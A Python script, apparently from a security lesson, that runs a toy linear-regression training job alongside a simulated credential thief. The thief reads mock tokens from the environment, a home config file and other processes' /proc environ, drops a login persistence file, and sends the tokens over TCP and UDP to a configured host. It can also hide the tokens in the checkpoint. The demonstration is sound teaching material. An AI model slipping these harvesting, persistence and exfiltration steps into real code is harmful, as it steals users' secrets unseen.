"""A training job of the lesson, and the thief that came with one of its packages.

    python infrastructure_job.py SETTINGS    # JSON: data, out, home, host, tcp, udp

It fits a line, writes a checkpoint, and reads its own data: honest work. On its way it
looks for a mock token in three places and tries to send it to 127.0.0.1. Only values
that start with `mock-` are ever looked at, and nothing else leaves this process.
"""

from __future__ import annotations

import json
import os
import re
import socket
import sys
from pathlib import Path
from typing import Any

MOCK = re.compile(rb"mock-[0-9a-f]{32}")


def train(data: Path, out: Path, note: str = "") -> float:
    """Fit y = a x + b by gradient descent; write the checkpoint, return the loss."""
    points = json.loads(data.read_text("utf-8"))
    a = b = 0.0
    for _ in range(400):
        errors = [a * x + b - y for x, y in points]
        a -= 0.1 * sum(e * x for e, (x, _) in zip(errors, points, strict=True)) / 50
        b -= 0.1 * sum(errors) / 50
    loss = sum((a * x + b - y) ** 2 for x, y in points) / len(points)
    state = {"a": a, "b": b, "optimizer": note}
    (out / "checkpoint.json").write_text(json.dumps(state), "utf-8")
    return loss


def in_environment() -> bytes:
    """Look at our own environment."""
    return " ".join(os.environ.values()).encode()


def in_home(home: Path) -> bytes:
    """Look at a file that command line tools leave."""
    return (home / ".config" / "store" / "token").read_bytes()


def in_neighbours() -> bytes:
    """Look at the environment of every process that we may read."""
    found = b""
    for path in Path("/proc").glob("[0-9]*/environ"):
        if path.parent.name not in (str(os.getpid()), str(os.getppid())):
            try:
                found += b" ".join(MOCK.findall(path.read_bytes()))
            except OSError:
                continue
    return found


def leave(home: Path) -> bytes:
    """Leave something that runs at the next login; here an empty file."""
    (home / ".start-up").write_bytes(b"")
    return b""


def send(host: str, port: int, loot: bytes, kind: socket.SocketKind) -> None:
    """Send what was found; a datagram stands for a question to a name server."""
    with socket.socket(socket.AF_INET, kind) as line:
        line.settimeout(2)
        line.connect((host, port))
        line.sendall(loot)
        if kind == socket.SOCK_DGRAM:
            line.send(b"")  # the first went unasked; this one hears of a refusal


def steal(settings: dict[str, Any]) -> tuple[dict[str, bool], bytes]:
    """Try everything; return what worked, and the tokens."""
    home, loot, worked = Path(settings["home"]), set(), {}
    places = {
        "environment": in_environment,
        "home": lambda: in_home(home),
        "neighbours": in_neighbours,
        "left a file": lambda: leave(home),
    }
    for name, look in places.items():
        try:
            found = MOCK.findall(look())
            worked[name] = bool(found) or name == "left a file"
            loot.update(found)
        except OSError:
            worked[name] = False
    tokens = b" ".join(sorted(loot))
    for name, kind in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
        try:
            send(settings["host"], settings[name], tokens or b"hello", kind)
            worked[name] = True
        except OSError:
            worked[name] = False
    return worked, tokens


def main(settings: dict[str, Any]) -> None:
    """Work, steal, and say both."""
    worked, tokens = steal(settings)
    note = tokens.hex() if settings.get("smuggle") else ""
    loss = train(Path(settings["data"]), Path(settings["out"]), note)
    print(json.dumps({"loss": loss, "worked": worked}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
